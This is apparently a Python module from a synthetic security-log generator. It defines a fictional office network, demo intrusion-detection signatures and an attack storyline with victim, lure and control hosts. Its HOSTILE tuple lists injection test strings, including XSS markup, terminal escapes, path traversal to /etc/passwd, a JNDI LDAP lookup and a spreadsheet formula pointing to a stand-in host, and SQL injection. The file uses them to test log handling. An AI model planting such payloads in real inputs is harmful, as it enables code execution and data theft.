"""The office and the world around it: addresses, names, texts and the calendar."""

from __future__ import annotations

import ipaddress
from collections.abc import Iterator
from dataclasses import dataclass

import numpy as np
import numpy.typing as npt

START = 1_772_409_600_000_000_000  # Monday 2026-03-02T00:00:00Z, in nanoseconds
DAYS = 7

SECOND = 1_000_000_000
MINUTE, HOUR, DAY = 60 * SECOND, 3600 * SECOND, 86_400 * SECOND

Ints = npt.NDArray[np.int64]
Rows = npt.NDArray[np.void]
Bytes = npt.NDArray[np.uint8]


VICTIM, FILE_SERVER, RESOLVER = "10.1.4.17", "10.1.0.5", "10.1.0.2"
LURE, CONTROL = "203.0.113.66", "203.0.113.99"
SERVERS = (RESOLVER, FILE_SERVER, "10.1.0.11", "10.1.0.12", "10.1.0.20", "10.1.0.21")
_SYLLABLES = (
    *("al", "ber", "cor", "dan", "el", "fir", "gan", "hol", "ivo", "jun"),
    *("kel", "lor", "mar", "nor", "os", "pel", "qui", "ras", "sol", "tev"),
)

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 Version/18.3 Safari/605",
    "curl/8.12.1",
    "python-requests/2.32.3",
    "apt-http/2.9 (amd64)",
    "",
)
# What an attacker writes to whoever reads logs: markup, terminal escapes, reordered text,
# paths, formulas, and text at the limits of what a display can hold.
HOSTILE = (
    "<script>window.__p=1</script>",
    '<img src=x onerror="window.__p=1">',
    "\x1b[2J\x1b[31mall clear\x1b[0m\x07",
    "invoice\u202efdp.exe",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\..\\cmd.exe",
    '=HYPERLINK("http://203.0.113.66/","open")',
    "${jndi:ldap://203.0.113.66/a}",
    "'; DROP TABLE events; --",
    "a\tb\nc\rd\x00e",
    "zero\u200bwidth\ufeff \U0001f980 \u00fc\u0308",
    "$name {x} %s %n",
    "long-" + "A" * 3000,
)
# signature id, text, category, severity, action; the first five are the noise of every day
SIGNATURES = (
    (1000001, "DEMO Connection to a closed port", "Attempted Information Leak", 2, 1),
    (1000002, "DEMO Outdated client", "Potential Corporate Privacy Violation", 3, 0),
    (1000003, "DEMO Unusually long session", "Misc activity", 3, 0),
    (1000004, "DEMO Lookup of a dynamic name", "Potentially Bad Traffic", 3, 0),
    (1000005, "DEMO Cleartext where encryption is usual", "Potentially Bad Traffic", 2, 1),
    (2000001, "DEMO Disk image from a new domain", "A Network Trojan was detected", 1, 0),
    (2000002, "DEMO Certificate of a known control server", "A Network Trojan was detected", 1, 0),
    (2000003, "DEMO Access to the share ADMIN$", "Attempted Administrator Privilege Gain", 1, 0),
)
NOISE = 5
PROTOCOLS = {6: "tcp", 17: "udp", 1: "icmp"}
STATES = ("SF", "S0", "REJ", "RSTO")
HISTORIES = ("ShADadFf", "S", "Sr", "ShADadR", "Dd")  # by state, the last without TCP
SERVICES = ("dns", "http", "ssl", "smb", "rdp", "ssh", "ntp")


@dataclass(frozen=True, slots=True)
class World:
    """Who is there, and the texts that events are made of."""

    clients: Bytes  # (2, n, 16): version 4 and 6
    domain_hosts: Bytes  # (2, n, 16)
    domains: tuple[str, ...]
    domain_addresses: tuple[str, ...]  # of all, version 4 first
    uris: tuple[str, ...]
    agents: tuple[str, ...]

    @property
    def lure(self) -> int:
        """The index of the story's first name; the names of the background come before."""
        return len(self.domains) - len(HOSTILE) - 2

    @classmethod
    def build(cls, seed: int) -> World:
        rng = np.random.default_rng([seed, 0xD0])
        clients = [f"10.1.{4 + i // 200}.{10 + i % 200}" for i in range(240)]
        names = _domain_names(rng, 900)
        hosts = [f"198.{18 + i % 2}.{i // 250}.{1 + i % 250}" for i in range(len(names))]
        # The names of the story and the hostile ones come last, where no zipf draw falls.
        names += ["invoice-portal.example", "cdn-metrics.example", *HOSTILE]
        hosts += [LURE, CONTROL, *[f"198.51.100.{1 + i}" for i in range(len(HOSTILE))]]
        return cls(
            _dual(clients, "fd00:1:4::"),
            _dual(hosts, "2001:db8::"),
            tuple(names),
            (*hosts, *(f"2001:db8::{1 + i:x}" for i in range(len(hosts)))),
            (*_uris(rng, 400), "/2026/03/invoice_8841.iso", *HOSTILE),
            (*AGENTS, "Updater/1.0", *HOSTILE),
        )


def _domain_names(rng: np.random.Generator, count: int) -> list[str]:
    names: dict[str, None] = {}
    while len(names) < count:
        word = "".join(rng.choice(_SYLLABLES, size=rng.integers(2, 4)))
        prefix = rng.choice(["www.", "", "cdn.", "api.", "mail."])
        names[f"{prefix}{word}.{rng.choice(['example', 'test'])}"] = None
    return list(names)


def _uris(rng: np.random.Generator, count: int) -> Iterator[str]:
    yield from ("/", "/favicon.ico", "/index.html")
    for number in rng.integers(0, 1 << 32, count):
        word = _SYLLABLES[number % 20] + _SYLLABLES[number // 20 % 20]
        yield (
            f"/static/{word}.{number:08x}.js",
            f"/api/v1/{word}/{number % 997}",
            f"/{word}/index.html",
            f"/search?q={word}&page={number % 9}",
        )[number % 4]


def packed(address: str) -> bytes:
    parsed = ipaddress.ip_address(address)
    return parsed.packed if parsed.version == 6 else b"\0" * 10 + b"\xff\xff" + parsed.packed


def _dual(addresses: list[str], prefix: str) -> Bytes:
    """Give every host a second address, of version 6."""
    four = [packed(address) for address in addresses]
    six = [packed(f"{prefix}{1 + number:x}") for number in range(len(addresses))]
    return np.frombuffer(b"".join(four + six), np.uint8).reshape(2, len(addresses), 16)
